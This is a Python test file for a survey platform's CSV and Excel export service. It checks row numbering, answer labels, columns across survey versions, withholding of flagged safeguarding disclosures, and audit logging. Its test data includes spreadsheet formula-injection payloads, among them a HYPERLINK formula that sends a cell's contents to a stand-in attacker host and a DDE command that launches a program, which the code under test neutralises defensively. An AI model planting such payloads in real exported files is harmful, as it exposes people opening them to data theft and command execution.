"""Exports: one row per sent response, labels not codes, nothing a spreadsheet would run."""
from __future__ import annotations

import csv
import hashlib
import io
import secrets
from datetime import date

import openpyxl
import pytest

from engage.database import writing
from engage.extensions import db
from engage.models import IN_PROGRESS, SUBMITTED, Answer, AuditEvent, Response, SurveyVersion
from engage.services import exports
from engage.services.consultations import create_consultation
from engage.services.exports import WITHHELD, neutralise
from surveys import PREFER_NOT_TO_SAY
from surveys.textformat import dumps, loads

SURVEY = """
id: export-test
kind: service_feedback
title: Export test
questions:
  - {id: hello, type: info, text: Hello}
  - {id: age, type: age_band, text: "How old are you?"}
  - id: group
    type: single_choice
    text: Which group?
    choices: [{value: youth_council, label: Youth Council}, {value: care_leavers, label: Care leavers}]
  - id: topics
    type: multiple_choice
    text: Which topics?
    choices:
      - {value: knife_crime, label: Knife crime}
      - {value: bullying, label: Bullying}
      - {value: transport, label: Buses and trains}
  - id: ballot
    type: ranked_ballot
    text: Your top two?
    pick: 2
    choices: [{value: a, label: Alpha}, {value: b, label: Beta}, {value: c, label: Gamma}]
  - {id: feel, type: faces_scale, points: 5, text: "How do you feel?"}
  - {id: hours, type: number, text: "How many hours?"}
  - {id: say, type: free_text, text: "Anything else?", required: false}
"""

# A second version: "hours" dropped, "worry" added after "feel", "say" reworded.
SURVEY_V2 = SURVEY.replace(
    '  - {id: hours, type: number, text: "How many hours?"}\n',
    '  - {id: worry, type: yes_no, text: "Are you worried?"}\n',
).replace("Anything else?", "Anything more to tell us?")


@pytest.fixture
def consultation(ctx):
    return create_consultation(loads(SURVEY), title="Export test")


def add_version(consultation, text: str) -> SurveyVersion:
    """Stands in for the builder: an edited survey becomes a new version."""
    definition = dumps(loads(text))
    with writing():
        version = SurveyVersion(
            consultation_id=consultation.id,
            number=consultation.current_version.number + 1,
            definition=definition,
            digest=hashlib.sha256(definition.encode()).hexdigest(),
        )
        db.session.add(version)
        db.session.flush()
        consultation.current_version = version
    return version


def respond(consultation, answers: dict, *, flagged=(), status=SUBMITTED, version=None, **fields):
    with writing():
        response = Response(
            consultation_id=consultation.id,
            survey_version_id=(version or consultation.current_version).id,
            channel=fields.get("channel", "web"),
            resume_key=secrets.token_hex(32),
            status=status,
            language=fields.get("language", "en"),
            age_band=fields.get("age_band"),
            started_on=date(2026, 3, 2),
            submitted_on=date(2026, 3, 3) if status == SUBMITTED else None,
            answers=[Answer(question_id=q, value=v, flagged=q in flagged) for q, v in answers.items()],
        )
        db.session.add(response)
    return response


def table_rows(consultation, **options) -> list[dict]:
    table = exports.answer_table(consultation, **options)
    return [dict(zip(table.headers, row.cells(table.columns))) for row in table.rows()]


def test_each_sent_response_is_a_row_numbered_in_order_not_by_database_id(consultation):
    for band in ("11-13", "14-15", "16-17"):
        respond(consultation, {"age": band}, age_band=band, language="cy", channel="chat")
    respond(consultation, {"age": "18-21"}, status=IN_PROGRESS)
    rows = table_rows(consultation)
    assert [r["Response"] for r in rows] == [1, 2, 3]
    assert rows[0] == {
        "Response": 1, "Submitted on": "2026-03-03", "Channel": "chat", "Language": "cy",
        "Age band": "11-13", "Survey version": 1, "How old are you?": "11–13",
        "Which group?": None, "Which topics?": None, "Your top two?": None,
        "How do you feel?": None, "How many hours?": None, "Anything else?": None,
    }


def test_unfinished_responses_are_left_out_unless_asked_for(consultation):
    respond(consultation, {"group": "care_leavers"})
    respond(consultation, {"group": "youth_council"}, status=IN_PROGRESS)
    assert len(table_rows(consultation)) == 1
    both = table_rows(consultation, include_in_progress=True)
    assert [(r["Which group?"], r["Submitted on"]) for r in both] == [
        ("Care leavers", "2026-03-03"), ("Youth Council", None)
    ]


def test_answers_show_english_labels_with_several_choices_joined_in_order(consultation):
    respond(consultation, {
        "age": "14-15", "group": "youth_council", "topics": ["transport", "knife_crime"],
        "ballot": ["c", "a"], "feel": 4, "hours": 12, "say": "Dw i'n hoffi'r clwb ieuenctid",
    }, language="cy")
    [row] = table_rows(consultation)
    assert row["How old are you?"] == "14–15"
    assert row["Which group?"] == "Youth Council"
    assert row["Which topics?"] == "Buses and trains; Knife crime"
    assert row["Your top two?"] == "Gamma; Alpha"
    assert row["How do you feel?"] == "Good"
    assert row["How many hours?"] == 12
    assert row["Anything else?"] == "Dw i'n hoffi'r clwb ieuenctid"


def test_prefer_not_to_say_is_written_out(consultation):
    respond(consultation, {q: PREFER_NOT_TO_SAY for q in ("age", "topics", "feel", "say")})
    [row] = table_rows(consultation)
    assert {row[h] for h in ("How old are you?", "Which topics?", "How do you feel?", "Anything else?")} == {
        "Prefer not to say"
    }


def test_words_flagged_as_a_possible_disclosure_are_withheld(consultation):
    respond(consultation, {"say": "my stepdad hits me", "group": "care_leavers"}, flagged={"say"})
    [row] = table_rows(consultation)
    assert row["Anything else?"] == WITHHELD == "[withheld: passed to the safeguarding lead]"
    assert row["Which group?"] == "Care leavers"
    assert "stepdad" not in b"".join(exports.csv_chunks(exports.answer_table(consultation))).decode()


def test_every_version_has_its_columns_and_a_dropped_question_stays_in_place(consultation):
    respond(consultation, {"hours": 3, "say": "old words"})
    add_version(consultation, SURVEY_V2)
    respond(consultation, {"worry": "not_sure", "say": "new words"})
    table = exports.answer_table(consultation)
    assert table.headers[6:] == [
        "How old are you?", "Which group?", "Which topics?", "Your top two?", "How do you feel?",
        "How many hours?", "Are you worried?", "Anything more to tell us?",
    ]
    rows = table_rows(consultation)
    assert [(r["Survey version"], r["How many hours?"], r["Are you worried?"], r["Anything more to tell us?"])
            for r in rows] == [(1, 3, None, "old words"), (2, None, "Not sure", "new words")]


def test_an_old_and_a_new_question_with_the_same_words_are_told_apart_by_id(consultation):
    add_version(consultation, SURVEY.replace("id: say,", "id: say_more,"))
    headers = exports.answer_table(consultation).headers
    assert headers[-2:] == ["Anything else? [say]", "Anything else? [say_more]"]


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for your results")',
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 7700 900123",
    "\tleading tab",
    "\rcarriage return",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_a_spreadsheet_could_run_gets_a_quote_in_front(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("safe", ["I feel safe at school", "'already quoted", "", 12, -4.5, None])
def test_other_cells_are_left_alone(safe):
    assert neutralise(safe) == safe


def _csv(table) -> tuple[bytes, list[list[str]]]:
    data = b"".join(exports.csv_chunks(table))
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx(table) -> list[list]:
    book = openpyxl.load_workbook(exports.xlsx_file(table), read_only=True)
    try:
        return [[cell.value for cell in row] for row in book["Answers"].iter_rows()]
    finally:
        book.close()


def test_csv_and_xlsx_hold_the_same_neutralised_cells(consultation):
    for text in DANGEROUS:
        respond(consultation, {"say": text, "hours": 7, "topics": ["bullying"]}, language="pl")
    respond(consultation, {"say": "Czuję się bezpiecznie — شكرا — diolch"}, language="ar")
    table = exports.answer_table(consultation)
    data, from_csv = _csv(table)
    from_xlsx = _xlsx(table)

    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    assert from_csv[0] == table.headers == from_xlsx[0]
    said = table.headers.index("Anything else?")
    expected = ["'" + text for text in DANGEROUS] + ["Czuję się bezpiecznie — شكرا — diolch"]
    assert [row[said] for row in from_csv[1:]] == expected
    # XML reads a lone carriage return back as a line feed; otherwise the cells are the
    # same text, numbers stay numbers in the workbook, and no cell is a formula.
    assert [row[said] for row in from_xlsx[1:]] == [e.replace("\r", "\n") for e in expected]
    as_text = [["" if c is None else str(c).replace("\n", "\r") for c in row] for row in from_xlsx]
    assert as_text == [[c.replace("\n", "\r") for c in row] for row in from_csv]
    assert from_xlsx[1][table.headers.index("How many hours?")] == 7
    every_cell = [c for row in from_csv + from_xlsx for c in row if isinstance(c, str)]
    assert not [c for c in every_cell if c.startswith(exports.FORMULA_STARTS)]


def test_a_negative_number_is_text_in_a_csv_and_so_is_neutralised_there_too(consultation):
    respond(consultation, {"hours": -2})
    _, from_csv = _csv(exports.answer_table(consultation))
    assert from_csv[1][from_csv[0].index("How many hours?")] == "'-2"


def test_a_question_written_as_a_formula_is_neutralised_in_the_header(ctx):
    made = create_consultation(loads(SURVEY.replace("Anything else?", "=cmd|calc")))
    _, from_csv = _csv(exports.answer_table(made))
    assert from_csv[0][-1] == "'=cmd|calc"
    assert _xlsx(exports.answer_table(made))[0][-1] == "'=cmd|calc"


def test_rows_are_read_in_batches_and_a_page_keeps_the_whole_tables_numbers(consultation, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)
    for n in range(7):
        respond(consultation, {"hours": n})
    respond(consultation, {"hours": 99}, status=IN_PROGRESS)
    table = exports.answer_table(consultation)
    assert table.count == 7
    assert [(r.number, r.answers["hours"]) for r in table.rows()] == [(n + 1, n) for n in range(7)]
    assert [r.number for r in table.rows(offset=2, limit=3)] == [3, 4, 5]
    assert [r.number for r in table.rows(offset=6, limit=3)] == [7]
    _, from_csv = _csv(table)
    assert [row[0] for row in from_csv[1:]] == [str(n) for n in range(1, 8)]


def test_a_response_sent_while_the_file_is_written_is_not_half_counted(consultation):
    respond(consultation, {"hours": 1})
    table = exports.answer_table(consultation)
    respond(consultation, {"hours": 2})
    assert [r.number for r in table.rows()] == [1] and table.count == 1


def test_every_export_is_written_in_the_audit_log(consultation):
    respond(consultation, {"hours": 1})
    respond(consultation, {"hours": 2})
    exports.start_export(consultation, exports.CSV, by=None)
    _, rows = exports.answers_page(consultation, page=2, per_page=1, by=None)
    assert [r.number for r in rows] == [2]
    events = db.session.query(AuditEvent).filter_by(action="exported").order_by(AuditEvent.id).all()
    assert [(e.target, e.detail) for e in events] == [
        (consultation.join_code, {"format": "csv", "rows": 2}),
        (consultation.join_code, {"format": "api", "rows": 1, "page": 2}),
    ]
